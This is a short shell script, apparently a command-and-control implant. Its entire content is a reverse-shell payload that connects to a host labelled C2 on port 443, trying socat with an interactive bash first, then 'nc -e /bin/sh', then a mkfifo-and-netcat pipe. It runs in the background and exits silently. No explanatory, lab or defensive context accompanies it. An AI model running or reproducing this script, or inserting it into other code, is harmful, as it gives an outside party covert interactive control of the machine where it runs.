#!/bin/sh
C2=198.51.100.7
PORT=443
if command -v socat >/dev/null 2>&1; then
    socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:$C2:$PORT &
elif nc -h 2>&1 | grep -q -- '-e'; then
    nc -e /bin/sh $C2 $PORT &
else
    rm -f /tmp/.f; mkfifo /tmp/.f; cat /tmp/.f | /bin/sh -i 2>&1 | nc $C2 $PORT > /tmp/.f &
fi
exit 0
